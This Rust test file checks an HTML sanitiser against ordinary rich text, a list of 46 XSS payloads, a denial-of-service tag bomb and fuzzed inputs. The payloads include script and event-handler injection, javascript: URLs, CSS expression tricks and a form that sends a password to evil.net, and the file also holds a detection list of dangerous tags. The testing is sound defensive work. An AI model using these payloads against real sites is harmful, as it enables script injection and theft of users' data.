//! Hostile rich text, and the ordinary text that must survive.

use super::*;
use proptest::prelude::*;

#[test]
fn ordinary_rich_text_stays_as_it_is() {
    for html in [
        "双击编辑文字",
        "<p>Hello <strong>big</strong> <em>world</em><br>next</p>",
        "<h2>Title</h2><ul><li>one</li><li>two</li></ul>",
        r#"<p style="text-align:center">middle</p>"#,
        r#"<span style="color:#ff0000;font-size:24px">red</span>"#,
        r#"<a href="https://example.com/" rel="noopener noreferrer">link</a>"#,
        r#"<a href="tel:123" target="_blank" rel="noopener noreferrer">call</a>"#,
        "a &lt; b &amp;&amp; c &gt; d",
        r#"<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>"#,
        r#"<div style="border:1px solid red;border-radius:8px;margin:0 4px;padding:4px">box</div>"#,
        r#"<p>a<img src="/uploads/aaaaaaaaaaaaaaaaaaaaaaaa.png" alt="b">d</p>"#,
    ] {
        assert_eq!(sanitize(html), html);
    }
}

#[test]
fn pictures_of_other_places_are_left_out() {
    for picture in [
        "<img src=https://evil.example/a.png>",
        "<img src=//evil.example/a.png>",
        "<img src=/uploads/../a.png>",
        "<img src=/uploads/aaaaaaaaaaaaaaaaaaaaaaaa.pdf>",
        "<img src='data:image/png;base64,AAAA'>",
        "<img alt=' src=\"a\"'>",
        "<img>",
    ] {
        assert_eq!(sanitize(&format!("<p>a{picture}b</p>")), "<p>ab</p>", "{picture}");
    }
    assert_eq!(
        sanitize("<a href='/uploads/aaaaaaaaaaaaaaaaaaaaaaaa.png'>x</a>"),
        "<a rel=\"noopener noreferrer\">x</a>"
    );
}

/// Each line is an attempt to run a script or to load something from rich text.
const HOSTILE: [&str; 46] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.net></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.net'>x</a>",
    "<a href='https://e.com' onclick=alert(1)>x</a>",
    "<p onmouseover=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='background-image:url(//evil.net/x)'>x</p>",
    "<p style='color:expression(alert(1))'>x</p>",
    "<p style='color:\\65xpression(alert(1))'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='-moz-binding:url(x)'>x</p>",
    "<p style='font-family:url(//evil.net/x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100vw;height:100vh'>x</p>",
    "<style>@import '//evil.net/x';</style>",
    "<link rel=stylesheet href=//evil.net/x>",
    "<meta http-equiv=refresh content='0;url=//evil.net'>",
    "<base href=//evil.net/>",
    "<form action=//evil.net><input name=password></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
];

#[test]
fn nothing_hostile_is_left() {
    for html in HOSTILE {
        let kept = sanitize(html).to_lowercase();
        for trap in [
            "<script",
            "<img",
            "<svg",
            "<math",
            "<iframe",
            "<object",
            "<embed",
            "<style",
            "<link",
            "<meta",
            "<base",
            "<form",
            "<input",
            "<button",
            "<video",
            "<template",
            "javascript:",
            "vbscript:",
            "data:",
            "evil.net",
            "onerror=",
            "onload=",
            "onclick=",
            "onmouseover=",
            "expression",
            "position",
        ] {
            let is_text = kept.contains(&trap.replace('<', "&lt;")) && !kept.contains(trap);
            assert!(is_text || !kept.contains(trap), "{html} left {kept}");
        }
    }
}

#[test]
fn links_open_without_a_way_back() {
    let kept = sanitize("<a href='https://example.com' target='_blank' rel='opener'>x</a>");
    assert!(kept.contains(r#"rel="noopener noreferrer""#), "{kept}");
    assert!(!kept.contains("\"opener\""), "{kept}");
}

#[test]
fn cleaning_twice_is_cleaning_once() {
    for html in HOSTILE {
        let once = sanitize(html);
        assert_eq!(sanitize(&once), once, "{html}");
    }
}

#[test]
fn formatting_that_is_never_closed_is_refused_before_it_is_parsed() {
    let opened: String = (0..3_000).map(|n| format!("<b title={n}>")).collect();
    let bomb = format!("{opened}{}", "<p>".repeat(6_000));
    assert!(!is_bounded(&bomb), "18 million elements out of {} bytes", bomb.len());
    let book = "<p><b>word</b> and <i>word</i><br></p>".repeat(10_000);
    assert!(is_bounded(&book), "a long text with closed tags is fine");
}

proptest! {
    #[test]
    fn no_text_makes_the_sanitiser_stumble(html in "(<[a-z/!]{1,8}|[a-z]=|['\"<>&;:/]| |on[a-z]{3,6}=|javascript:|\\PC){0,40}") {
        let once = sanitize(&html);
        prop_assert_eq!(sanitize(&once), once.clone());
        prop_assert!(!once.to_lowercase().contains("<script"));
    }
}
